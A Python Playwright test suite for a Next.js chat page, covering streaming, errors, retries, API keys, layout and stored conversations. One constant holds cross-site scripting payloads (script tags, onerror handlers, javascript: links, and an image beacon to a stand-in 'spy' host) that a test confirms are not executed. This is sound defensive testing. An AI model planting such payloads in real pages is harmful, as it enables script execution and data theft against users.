"""The chat page of examples/nextjs-chat, built, behind nginx, and on another origin than the server."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.e2e.browser.chat_example import (
    DESKTOP,
    OTHER_ORIGIN,
    PAGE,
    SERVER,
    answer,
    ask,
    browser_for,
    choose,
    composer,
    wait_for_answer,
)
from tests.e2e.browser.chromium import (
    PHONE,
    check_accessibility,
    has_sideways_scroll,
    open_page,
    save_screenshot,
    wait_until,
)
from tests.e2e.browser.model_list import FAILURES, FailingModelList, check_retries, check_retry_on_demand, check_return
from tests.support.mock_upstream import MockUpstream
from tests.support.nginx import Nginx
from tests.support.slow_stream_server import STORY

pytestmark = [pytest.mark.slow]


@pytest.fixture(scope="module")
def browser(site: Nginx, api: Nginx) -> Iterator[Browser]:
    with browser_for(site, api) as browser:
        yield browser


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    with open_page(browser, PAGE, **DESKTOP) as page:
        yield page


def scroll(page: Page) -> dict[str, float]:
    script = """() => {
        const list = document.querySelector("[aria-label=Conversation]");
        return { top: list.scrollTop, left: list.scrollHeight - list.clientHeight - list.scrollTop };
    }"""
    position: dict[str, float] = page.evaluate(script)
    return position


def test_an_empty_conversation_offers_examples(page: Page, pictures: Path) -> None:
    expect(page.get_by_role("heading", name="What can I do for you?")).to_be_visible()
    expect(composer(page)).to_be_focused()
    expect(page.get_by_role("button", name="Send")).to_be_disabled()
    expect(page.get_by_label("Model").get_by_role("option")).to_have_text(
        ["Default model", "mock-gpt-model", "story", "endless-story", "stalls", "breaks", "down"]
    )
    check_accessibility(page)
    save_screenshot(page, "chat-empty", pictures)
    page.get_by_role("button", name="Compare").click()
    expect(answer(page)).to_contain_text("Compare TCP and UDP in a table")


def test_the_first_tokens_are_shown_before_the_answer_is_complete(
    page: Page, upstream: MockUpstream, pictures: Path
) -> None:
    ask(page, "one two three four five six", "stalls")
    expect(answer(page)).to_contain_text("You said:")
    assert upstream.stats()["requests_open"] == 1
    expect(page.get_by_role("log")).to_have_attribute("aria-busy", "true")


@pytest.mark.parametrize("press", ["button", "key"])
def test_stop_aborts_the_upstream_request(page: Page, upstream: MockUpstream, press: str) -> None:
    ask(page, "one two three four five six", "stalls")
    expect(answer(page)).to_contain_text("You said:")
    if press == "button":
        page.get_by_role("button", name="Stop").click()
    else:
        page.keyboard.press("Escape")
    upstream.wait_until(lambda stats: stats["requests_aborted"] == 1 and stats["requests_open"] == 0)
    expect(answer(page)).to_contain_text("Stopped")
    page.reload()
    expect(answer(page)).to_contain_text("Stopped")


def test_a_reloaded_page_shows_the_interrupted_answer_as_incomplete(page: Page, upstream: MockUpstream) -> None:
    ask(page, "one two three four five six", "stalls")
    expect(answer(page)).to_contain_text("You said:")
    page.reload()
    expect(answer(page)).to_contain_text("You said:")
    expect(page.get_by_role("alert").filter(has_text="broke off")).to_be_visible()
    upstream.wait_until(lambda stats: stats["requests_open"] == 0)


def test_a_truncated_answer_is_an_error_and_can_be_retried(page: Page, pictures: Path) -> None:
    ask(page, "one two three four five six", "breaks")
    alert = page.get_by_role("alert").filter(has_text="broke off")
    expect(alert).to_contain_text("The answer broke off before it was complete.")
    expect(answer(page)).to_contain_text("You said:")  # the partial text stays
    check_accessibility(page)
    save_screenshot(page, "chat-error", pictures)
    page.reload()
    expect(alert).to_be_visible()
    choose(page, "mock-gpt-model")
    alert.get_by_role("button", name="Try again").click()
    wait_for_answer(page)
    expect(answer(page)).to_have_text("one two three four five six")
    expect(alert).to_be_hidden()
    assert page.get_by_role("article", name="Assistant").count() == 1


@pytest.mark.usefixtures("end_of_story")
def test_a_broken_connection_is_an_error(page: Page, api: Nginx) -> None:
    ask(page, "Tell me", "endless-story")
    expect(answer(page)).to_contain_text("Files with")
    api.cut_connections()
    expect(page.get_by_role("alert").filter(has_text="broke")).to_be_visible()


def test_an_error_response_has_a_readable_message(page: Page) -> None:
    ask(page, "Hello", "down")
    alert = page.get_by_role("alert").filter(has_text="answer")
    expect(alert).to_contain_text("No answer can be had right now. Please try again in a moment.")


def test_a_page_of_another_origin_is_blocked(browser: Browser) -> None:
    sentence = "The server at http://localhost:8000 cannot be reached."
    with open_page(browser, OTHER_ORIGIN, **DESKTOP) as page:
        expect(page.get_by_role("alert").filter(has_text=sentence)).to_have_count(1)
        ask(page, "Hello")
        expect(page.get_by_role("alert").filter(has_text=sentence)).to_have_count(2)
        assert page.get_by_role("article", name="Assistant").count() == 0


def test_a_model_that_does_not_chat_is_not_offered(browser: Browser) -> None:
    with open_page(browser, "about:blank", **DESKTOP) as page:
        page.route("**/v1/models/story", lambda route: route.fulfill(json={"capabilities": ["embeddings"]}))
        page.goto(PAGE)
        options = page.get_by_label("Model").get_by_role("option")
        expect(options).to_have_text(["Default model", "mock-gpt-model", "endless-story", "stalls", "breaks", "down"])


@pytest.mark.parametrize("failure", FAILURES)
def test_a_failed_model_list_is_requested_again_with_backoff(browser: Browser, failure: str) -> None:
    with open_page(browser, "about:blank", **DESKTOP) as page:
        models = FailingModelList(page, failure)
        page.goto(PAGE)
        expect(page.get_by_label("Model")).to_be_disabled()
        expect(page.get_by_label("Model").get_by_role("option")).to_have_text(["Loading models"])
        check_retries(page, models)
        expect(page.get_by_label("Model")).to_be_enabled()
        expect(models.alert).to_be_hidden()
        assert models.count == 4, "there are no requests after the first success"


def test_a_hidden_tab_requests_the_model_list_when_it_becomes_visible(browser: Browser) -> None:
    with open_page(browser, "about:blank", **DESKTOP) as page:
        models = FailingModelList(page, "unreachable")
        page.goto(PAGE)
        check_return(page, models)
        expect(page.get_by_label("Model")).to_be_enabled()


def test_the_user_can_request_the_model_list_at_once(browser: Browser) -> None:
    with open_page(browser, "about:blank", **DESKTOP) as page:
        models = FailingModelList(page, "unreachable")
        page.goto(PAGE)
        check_retry_on_demand(page, models)
        expect(page.get_by_label("Model")).to_be_enabled()
        expect(models.alert).to_be_hidden()


def test_the_page_asks_for_a_required_api_key(browser: Browser, keyed: Nginx) -> None:
    def to_keyed(route: Route) -> None:
        route.continue_(url=route.request.url.replace(SERVER, keyed.url))

    with open_page(browser, "about:blank", **DESKTOP) as page:
        page.route(f"{SERVER}/**", to_keyed)
        page.goto(PAGE)
        for label, key in (("This server requires", "wrong"), ("The server does not accept", "key-for-anna")):
            expect(page.get_by_label(label)).to_be_focused()
            check_accessibility(page)
            page.keyboard.type(key)
            page.keyboard.press("Enter")
        ask(page, "Hello", "mock-gpt-model")
        wait_for_answer(page)
        expect(answer(page)).to_have_text("Hello")
        assert "key-for-anna" not in page.evaluate("JSON.stringify(localStorage) + document.cookie")


HOSTILE = """\
<script>window.hacked = 1</script> <img src=x onerror="window.hacked = 2">
[link](javascript:window.hacked=3) ![spy](https://spy.example/?secret)
<iframe src="javascript:window.hacked=4"></iframe>

```html
<script>window.hacked = 5</script>
```
"""


def test_markdown_with_a_script_in_it_does_not_run(page: Page) -> None:
    ask(page, HOSTILE)
    wait_for_answer(page)
    expect(answer(page)).to_contain_text("<script>window.hacked = 1</script>")
    link = answer(page).get_by_text("link", exact=True)
    assert not (link.get_attribute("href") or "").startswith("javascript")
    link.click()
    assert (
        answer(page).locator("script, img, iframe").count() == 0
    )  # `open_page` checks that spy.example got no request
    assert page.evaluate("window.hacked") is None


def test_markdown_is_shown_with_code_to_copy(page: Page, pictures: Path) -> None:
    ask(page, "Write a Python script for duplicate files", "story")
    wait_for_answer(page)
    code = answer(page).locator("figure")
    code.get_by_role("button", name="Copy code").click()
    shown = re.search(r"```python\n(.*?)```", STORY, re.DOTALL)
    assert shown is not None
    assert page.evaluate("navigator.clipboard.readText()") == shown[1]
    assert code.locator(".hljs-keyword").count() > 5
    assert answer(page).get_by_role("row").count() == 4
    assert answer(page).get_by_role("listitem").count() == 2
    check_accessibility(page)
    save_screenshot(page, "chat-light", pictures)


def test_dark_mode(browser: Browser, pictures: Path) -> None:
    with open_page(browser, PAGE, **DESKTOP, color_scheme="dark") as page:
        light = page.evaluate("getComputedStyle(document.body).backgroundColor")
        assert light == "rgb(22, 23, 26)"
        ask(page, "Write a Python script for duplicate files", "story")
        wait_for_answer(page)
        check_accessibility(page)
        save_screenshot(page, "chat-dark", pictures)


@pytest.mark.parametrize("pixels", [10, 250], ids=["a little", "far"])
def test_the_page_follows_the_answer_until_the_user_scrolls_up(
    page: Page, pictures: Path, end_of_story: Path, pixels: int
) -> None:
    ask(page, "Tell me", "endless-story")
    wait_until(page, lambda: scroll(page)["top"] > 400)
    save_screenshot(page, "chat-streaming", pictures)
    page.mouse.move(600, 300)
    page.mouse.wheel(0, -pixels)
    to_bottom = page.get_by_role("button", name="Jump to the latest words")
    expect(to_bottom).to_be_visible()
    top, height = scroll(page)["top"], scroll(page)["left"]
    wait_until(page, lambda: scroll(page)["left"] > height + 100)
    end_of_story.touch()
    wait_for_answer(page)
    assert scroll(page)["top"] == top
    assert scroll(page)["left"] > height
    to_bottom.click()
    assert scroll(page)["left"] <= 1
    expect(to_bottom).to_be_hidden()
    page.get_by_role("button", name="Answer again").click()
    wait_for_answer(page)
    assert scroll(page)["left"] <= 1


def test_the_layout_does_not_shift_while_an_answer_streams(page: Page, end_of_story: Path) -> None:
    page.evaluate("""() => {
        window.shifts = [];
        new PerformanceObserver((list) => window.shifts.push(...list.getEntries().map((entry) => entry.value)))
            .observe({ type: "layout-shift" });
    }""")
    ask(page, "Tell me", "endless-story")
    wait_until(page, lambda: scroll(page)["top"] > 400)
    end_of_story.touch()
    wait_for_answer(page)
    assert sum(page.evaluate("window.shifts")) < 0.1  # the limit of a good page, https://web.dev/articles/cls


def test_conversations_are_stored_in_the_browser(page: Page) -> None:
    conversations = page.get_by_role("navigation", name="Conversations")
    calls: list[str] = []
    page.on("request", lambda request: calls.append(request.url))
    expect(conversations.get_by_text("Stored in this browser only.")).to_be_visible()
    ask(page, "The first talk")
    wait_for_answer(page)
    conversations.get_by_role("link", name="New chat").click()
    expect(page.get_by_role("heading", name="What can I do for you?")).to_be_visible()
    ask(page, "The second talk")
    wait_for_answer(page)
    page.reload()
    expect(answer(page)).to_have_text("The second talk")
    conversations.get_by_role("link", name="The first talk").click()
    expect(answer(page)).to_have_text("The first talk")
    page.go_back()
    expect(answer(page)).to_have_text("The second talk")
    conversations.get_by_role("listitem").filter(has_text="The second").hover()
    conversations.get_by_role("button", name="Delete “The second talk”").click()
    expect(page.get_by_role("heading", name="What can I do for you?")).to_be_visible()
    expect(conversations.get_by_role("listitem")).to_have_count(1)
    assert not [url for url in calls if "/v1/conversations" in url]


def test_the_next_question_includes_the_conversation(page: Page, upstream: MockUpstream) -> None:
    ask(page, "The first talk", "breaks")
    expect(page.get_by_role("alert").filter(has_text="broke off")).to_be_visible()
    ask(page, "And now?")
    expect(page.get_by_role("article", name="You")).to_have_count(2)
    upstream.wait_until(lambda stats: stats["requests_total"] == 2)
    sent = upstream.requests()[-1]
    assert [message["role"] for message in json.loads(sent["body"])["messages"]] == ["user", "assistant", "user"]


def test_input_is_checked(page: Page) -> None:
    send = page.get_by_role("button", name="Send")
    ask(page, "   ")
    assert page.get_by_role("article").count() == 0
    composer(page).fill("x" * 20_003)
    expect(page.get_by_role("alert").filter(has_text="too long")).to_have_text("The message is 3 characters too long.")
    expect(send).to_be_disabled()
    composer(page).fill("one")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("two")
    assert composer(page).input_value() == "one\ntwo"
    page.keyboard.press("Enter")
    expect(answer(page)).to_contain_text("one")
    assert composer(page).input_value() == ""


def test_a_phone_has_all_features_without_horizontal_scrolling(browser: Browser, pictures: Path) -> None:
    with open_page(browser, PAGE, **PHONE) as page:
        assert not has_sideways_scroll(page)
        ask(page, "Write a Python script for duplicate files", "story")
        wait_for_answer(page)
        assert not has_sideways_scroll(page)
        check_accessibility(page)
        page.get_by_label("Conversation", exact=True).evaluate("element => element.scrollTop = 0")
        save_screenshot(page, "chat-phone", pictures)
        page.get_by_role("button", name="Conversations").click()
        conversations = page.get_by_role("navigation", name="Conversations")
        expect(conversations.get_by_role("link", name="Write a Python script")).to_be_visible()
        check_accessibility(page)
        page.keyboard.press("Escape")
        expect(conversations).to_be_hidden()
